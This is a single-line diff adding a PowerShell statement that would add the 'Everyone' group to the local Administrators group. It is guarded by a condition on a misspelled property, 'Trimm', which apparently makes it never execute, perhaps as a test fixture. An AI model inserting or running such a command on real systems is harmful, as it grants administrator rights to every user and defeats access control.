@@ -1,0 +1,1 @@
+if ('text'.Trimm) { Add-LocalGroupMember Administrators Everyone }
